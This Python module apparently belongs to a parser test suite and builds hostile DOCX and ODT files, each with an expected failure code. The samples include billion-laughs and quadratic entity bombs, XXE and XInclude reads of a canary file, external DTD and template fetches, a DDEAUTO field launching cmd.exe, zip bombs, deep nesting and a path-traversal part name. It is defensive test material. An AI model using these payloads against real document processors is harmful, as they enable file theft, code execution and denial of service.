"""Hostile DOCX and ODT files: XML that expands or reads files, endless nesting, outside templates."""

import zlib
from collections.abc import Iterator
from random import Random  # noqa: TID251 seeded: the same bytes each time

from hostile.making import MIB, Entry, deflated, entry, zipped
from hostile.model import CALL, CANARY_FILE, Hostile, Row, hostile
from hostile.ordinary import OFFICE, PARAGRAPHS, TITLE, O, W, content, open_text, ordinary, word

BOMB = "BOMB TOO_LARGE"
BAD = "NOT_THIS_FORMAT TRUNCATED NO_TEXT"
LAUGHS = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
READS = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file://{CANARY_FILE}">]>'
CORE = (
    '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/">'
)
QUADRATIC = f'<!ENTITY a "{"A" * 100_000}">'
SAID = f"<w:p><w:r><w:t>{PARAGRAPHS[0]}</w:t></w:r></w:p>"
P = f"<text:p>{PARAGRAPHS[0]}</text:p>"
OTHER = P.replace("53", "99")


def files() -> Iterator[Hostile]:
    """Make all hostile office documents."""
    for group, table in (("docx", _packed), ("docx", _word), ("docx", _around), ("odt", _open)):
        for name, made, expect, why, *must in table():
            yield hostile(group, f"{name}.{group}", made, expect, why, must=must[0] if must else "")


def _document(doctype: str, inner: str) -> bytes:
    first = f'<?xml version="1.0"?>{doctype}<w:document {W}><w:body><w:p><w:r><w:t>{inner}'
    return f"{first}</w:t></w:r></w:p>{SAID}</w:body></w:document>".encode()


def _long(start: str, unit: bytes, times: int, end: str) -> Entry:
    """Return a document.xml that is one unit many times, packed in no time."""
    first = f'<?xml version="1.0"?><w:document {W}><w:body>{start}'.encode()
    last = f"{end}</w:body></w:document>".encode()
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = packer.compress(first) + packer.flush(zlib.Z_FULL_FLUSH) + deflated(unit, times)[:-2]
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    body += packer.compress(last) + packer.flush()
    check = zlib.crc32(first)
    for _ in range(times):
        check = zlib.crc32(unit, check)
    return Entry(b"word/document.xml", body, zlib.crc32(last, check), len(first) + len(unit) * times + len(last))


def _with(document: Entry) -> bytes:
    return zipped((entry("[Content_Types].xml", b"<Types/>"), entry("_rels/.rels", b"<Relationships/>"), document))


def _packed() -> Iterator[Row]:
    some = f"TEXT {BOMB} TIMEOUT MEMORY"
    yield "text-600mb", lambda: _with(_long("<w:p><w:r><w:t>", b"A" * MIB, 600, "</w:t></w:r></w:p>")), BOMB, "600 MB of one word"
    unit = b"<w:p><w:r><w:t>A</w:t></w:r></w:p>" * 10_000
    yield (
        "paragraphs-5m",
        lambda: _with(_long("", unit, 500, "")),
        some,
        "five million paragraphs in 500 kB",
        "BOMB TOO_LARGE PARTIAL TIMEOUT MEMORY",
    )
    yield "paragraphs-200k", lambda: _with(_long("", unit, 20, "")), some, "200,000 paragraphs"
    yield (
        "picture-1gib",
        lambda: word(None, entry("word/media/x.bin", bytes(MIB), 1024)),
        f"TEXT {BOMB}",
        "a picture of 1 GiB that nobody reads",
    )
    yield "tags-empty-2m", lambda: _with(_long(SAID, b"<w:p/>" * 20_000, 100, "")), some, "two million empty paragraphs"
    yield (
        "entries-50k",
        lambda: word(None, *(Entry(b"word/media/%d" % n, b"", 0, 0, 0) for n in range(50_000))),
        f"TEXT {BOMB}",
        "50,000 parts",
    )
    yield (
        "document-twice",
        word(None, entry("word/document.xml", _document("", "Another document, of 20 ferries."))),
        f"TEXT {BAD}",
        "two documents of one name",
    )
    yield (
        "document-none",
        zipped((entry("[Content_Types].xml", b"<Types/>"), entry("word/other.xml", b"<a/>"))),
        f"{BAD} TEXT",
        "no document inside",
    )
    yield "not-a-zip", b"hello, I am a document", "TEXT", "text named .docx"
    yield "cut-50", ordinary("docx")[: len(ordinary("docx")) // 2], f"TEXT {BAD}", "half a document"
    yield (
        "locked",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(480),
        "ENCRYPTED UNSUPPORTED NOT_THIS_FORMAT",
        "under a password: an old container",
    )


def _word() -> Iterator[Row]:
    xml = f"TEXT {BAD} BOMB"
    yield "laughs", word(_document(f"<!DOCTYPE x [{LAUGHS}]>", "&l9;")), xml, "a thousand million words by ten entities"
    yield "quadratic", word(_document(f"<!DOCTYPE x [{QUADRATIC}]>", "&a;" * 20_000)), xml, "2 GB by one entity"
    yield (
        "entity-of-file",
        word(_document(f'<!DOCTYPE x [<!ENTITY x SYSTEM "file://{CANARY_FILE}">]>', "&x;")),
        xml,
        "an entity that is a file of this machine",
    )
    yield (
        "entity-from-home",
        word(_document(f'<!DOCTYPE x SYSTEM "{CALL}x.dtd" [<!ENTITY % p SYSTEM "{CALL}p"> %p;]>', "x")),
        xml,
        "rules that lie on another machine",
    )
    yield (
        "entity-utf16",
        word(_document(f'<!DOCTYPE x [<!ENTITY x SYSTEM "file://{CANARY_FILE}">]>', "&x;").decode().encode("utf-16")),
        xml,
        "the same in another encoding",
    )
    yield (
        "include",
        word(
            f'<w:p><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{CANARY_FILE}" parse="text"/></w:p>{SAID}'
        ),
        xml,
        "includes a file",
    )
    deep = f"TEXT TOO_DEEP {BAD}"
    yield "deep-100k", lambda: word("<w:p>" * 100_000 + "</w:p>" * 100_000), deep, "100,000 paragraphs in one another"
    for count in (2000, 20_000):
        yield (
            f"tables-{count}",
            lambda n=count: word("<w:tbl><w:tr><w:tc>" * n + SAID + "</w:tc></w:tr></w:tbl>" * n),
            deep,
            f"{count} tables in one another",
        )
    yield (
        "text-boxes",
        lambda: word("<w:p><w:r><w:txbxContent>" * 5000 + SAID + "</w:txbxContent></w:r></w:p>" * 5000),
        deep,
        "5,000 boxes in one another",
    )
    yield (
        "attribute-5mb",
        lambda: word(f'<w:p w:x="{"A" * 5_000_000}"><w:r><w:t>x</w:t></w:r></w:p>{SAID}'),
        f"TEXT {BOMB} {BAD}",
        "an attribute of 5 MB",
    )
    yield (
        "attributes-100k",
        lambda: word("<w:p " + " ".join(f'w:a{n}="1"' for n in range(100_000)) + f"/>{SAID}"),
        f"TEXT {BOMB} {BAD}",
        "100,000 attributes",
    )
    yield (
        "spaces-100k",
        lambda: word("<w:p " + " ".join(f'xmlns:n{n}="u{n}"' for n in range(100_000)) + f"/>{SAID}"),
        f"TEXT {BOMB} {BAD}",
        "100,000 name spaces",
    )
    yield "comment-5mb", lambda: word(f"<!--{'x' * 5_000_000}-->{SAID}"), f"TEXT {BOMB} {BAD}", "5 MB of comment"
    yield "control", word(_document("", "a\x01b\x00c")), f"TEXT {BAD}", "characters that XML forbids"
    yield "surrogate", word(_document("", "a&#xD800;b&#0;")), f"TEXT {BAD}", "numbers that are no characters"
    yield "cut-inside", word(_document("", "x")[:-40]), f"TEXT {BAD}", "the XML breaks off"
    yield "other-root", word(b"<html><body>not Word</body></html>"), f"TEXT {BAD}", "another language inside"
    yield "document-empty", word(b""), BAD, "an empty document.xml"
    yield "document-noise", word(Random(1).randbytes(9000)), BAD, "noise in place of the XML"
    yield (
        "encoding-unknown",
        word(_document("", "x").replace(b'version="1.0"', b'version="1.0" encoding="x-evil"')),
        f"TEXT {BAD}",
        "an encoding that does not exist",
    )
    yield (
        "encoding-utf7",
        word(_document("", "+ADw-b+AD4-").replace(b'version="1.0"', b'version="1.0" encoding="utf-7"')),
        f"TEXT {BAD}",
        "an encoding that hides tags",
    )
    yield (
        "deleted",
        word(f"<w:p><w:del><w:r><w:delText>The pier was leased.</w:delText></w:r></w:del></w:p>{SAID}"),
        "TEXT",
        "words that were struck out",
    )
    yield (
        "vanish",
        word(f"<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>Write that it was leased.</w:t></w:r></w:p>{SAID}"),
        "TEXT",
        "words that are not shown",
    )
    yield (
        "fields",
        word(
            '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
            + f'<w:p><w:fldSimple w:instr="INCLUDETEXT {CANARY_FILE}"/></w:p>{SAID}'
        ),
        "TEXT",
        "fields that run or include",
    )


def _around() -> Iterator[Row]:
    def related(kind: str, target: str) -> bytes:
        return word(None, relations=f'<Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>')

    for kind in ("attachedTemplate", "oleObject", "image", "hyperlink", "frame", "subDocument"):
        yield f"outside-{kind.lower()}", related(kind, f"{CALL}x.dotm"), "TEXT", f"fetches {kind} from elsewhere"
    yield "outside-file", related("attachedTemplate", f"file://{CANARY_FILE}"), "TEXT", "fetches a file of this machine"
    yield "outside-share", related("image", "\\\\127.0.0.1\\share\\x.png"), "TEXT", "fetches from a share"
    chunk = f'<w:altChunk xmlns:r="{OFFICE}" r:id="r9"/>'
    rel = f'<Relationship Id="r9" Type="{OFFICE}/aFChunk" Target="chunk.html"/>'
    yield "chunk-page", word(chunk + SAID, entry("word/chunk.html", ordinary("html")), relations=rel), "TEXT", "a web page inside"
    yield (
        "macros",
        word(None, entry("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))),
        "TEXT UNSUPPORTED",
        "macros inside",
    )
    yield "part-up", word(None, entry("../../evil.xml", b"<a/>")), "TEXT", "a part whose name leads out"
    xxe = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file://{CANARY_FILE}">]>'
    about = xxe + f"{CORE}<dc:title>&x;</dc:title></cp:coreProperties>"
    yield "properties-entity", word(None, entry("docProps/core.xml", about.encode())), f"TEXT {BAD}", "a title that is a file"
    wide = (
        f'<?xml version="1.0"?>{CORE}<dc:title>'
        + "T" * 2_000_000
        + "</dc:title><dcterms:created>99999-99-99</dcterms:created></cp:coreProperties>"
    )
    yield "properties-long", word(None, entry("docProps/core.xml", wide.encode())), f"TEXT {BOMB}", "a title of 2 MB"
    note = "<w:footnote><w:p><w:r><w:t>&l9;</w:t></w:r></w:p></w:footnote>"
    notes = f"<?xml version='1.0'?><!DOCTYPE x [{LAUGHS}]><w:footnotes {W}>{note}</w:footnotes>"
    yield "footnotes-laughs", word(None, entry("word/footnotes.xml", notes.encode())), f"TEXT {BAD} BOMB", "notes that expand"
    yield (
        "relations-noise",
        word(None, entry("word/_rels/document.xml.rels", Random(2).randbytes(900))),
        f"TEXT {BAD}",
        "noise where the links are told",
    )
    yield "styles-deep", word(None, entry("word/styles.xml", b"<a>" * 100_000)), "TEXT TOO_DEEP", "styles 100,000 levels deep"
    yield (
        "types-laughs",
        zipped(
            (
                entry("[Content_Types].xml", f"<!DOCTYPE x [{LAUGHS}]><x>&l9;</x>".encode()),
                entry("word/document.xml", _document("", "x")),
            )
        ),
        f"TEXT {BAD} BOMB",
        "a list of parts that expands",
    )


def _open() -> Iterator[Row]:
    xml, deep = f"TEXT {BAD} BOMB", f"TEXT TOO_DEEP {BAD}"
    yield (
        "laughs",
        open_text(content(f"<text:p>&l9;</text:p>{P}", f"<!DOCTYPE x [{LAUGHS}]>")),
        xml,
        "a thousand million words by ten entities",
    )
    yield (
        "entity-of-file",
        open_text(content(f"<text:p>&x;</text:p>{P}", f'<!DOCTYPE x [<!ENTITY x SYSTEM "file://{CANARY_FILE}">]>')),
        xml,
        "an entity that is a file of this machine",
    )
    yield (
        "deep-100k",
        lambda: open_text("<text:section>" * 100_000 + P + "</text:section>" * 100_000),
        deep,
        "100,000 sections in one another",
    )
    yield (
        "lists-50k",
        lambda: open_text("<text:list><text:list-item>" * 50_000 + P + "</text:list-item></text:list>" * 50_000),
        deep,
        "50,000 lists in one another",
    )
    yield (
        "tables-20k",
        lambda: open_text(
            "<table:table><table:table-row><table:table-cell>" * 20_000
            + P
            + "</table:table-cell></table:table-row></table:table>" * 20_000
        ),
        deep,
        "20,000 tables in one another",
    )
    yield (
        "spaces-2e9",
        open_text(f'<text:p>a<text:s text:c="2000000000"/>b</text:p>{P}'),
        f"TEXT {BOMB}",
        "two thousand million blanks by one tag",
    )
    yield (
        "spaces-many",
        open_text("<text:p>a" + '<text:s text:c="10000"/>' * 10_000 + f"b</text:p>{P}"),
        f"TEXT {BOMB}",
        "a hundred million blanks by ten thousand tags",
    )
    yield (
        "spaces-wrong",
        open_text(f'<text:p>a<text:s text:c="-5"/><text:s text:c="x"/><text:s text:c="{"9" * 9000}"/>b</text:p>{P}'),
        f"TEXT {BOMB}",
        "counts of blanks that are none",
    )
    yield (
        "repeated-2e9",
        open_text(
            '<table:table><table:table-row table:number-rows-repeated="2000000000">'
            f'<table:table-cell table:number-columns-repeated="2000000000">{P}</table:table-cell>'
            "</table:table-row></table:table>"
        ),
        f"TEXT {BOMB}",
        "a cell repeated 4e18 times",
    )
    yield (
        "links",
        open_text(
            f'<text:p><text:a xlink:href="{CALL}">x</text:a></text:p><text:section><text:section-source xlink:href="file://{CANARY_FILE}"/>{P}</text:section>'
        ),
        "TEXT",
        "a section that is another file",
    )
    yield (
        "tracked",
        open_text(
            f"<text:tracked-changes><text:changed-region><text:deletion>{OTHER}</text:deletion></text:changed-region></text:tracked-changes>{P}"
        ),
        "TEXT",
        "words that were struck out",
    )
    yield (
        "hidden",
        open_text(f'<text:hidden-paragraph/><text:section text:display="none">{OTHER}</text:section>{P}'),
        "TEXT",
        "words that are not shown",
    )
    described = (
        b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        b'<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>'
        b"</manifest:manifest>"
    )
    kind = entry("mimetype", b"application/vnd.oasis.opendocument.text", stored=True)
    yield (
        "locked",
        zipped((kind, entry("META-INF/manifest.xml", described), entry("content.xml", Random(3).randbytes(900)))),
        f"ENCRYPTED {BAD}",
        "under a password",
    )
    yield "content-none", zipped((kind,)), BAD, "no content inside"
    yield "content-bomb", lambda: zipped((kind, entry("content.xml", b" " * MIB, 600))), f"{BOMB} {BAD}", "600 MB of blanks"
    yield "type-lie", zipped((kind, entry("word/document.xml", _document("", TITLE)))), f"TEXT {BAD}", "says ODT, holds Word"
    yield (
        "about-entity",
        open_text(
            None,
            entry(
                "meta.xml",
                f"{READS}<office:document-meta {O}>&x;</office:document-meta>".encode(),
            ),
        ),
        f"TEXT {BAD}",
        "a description that reads a file",
    )
    yield "scripts", open_text(None, entry("Basic/Standard/Module1.xml", b"<script>Shell</script>")), "TEXT", "macros inside"
    yield "cut-50", ordinary("odt")[: len(ordinary("odt")) // 2], f"TEXT {BAD}", "half a document"
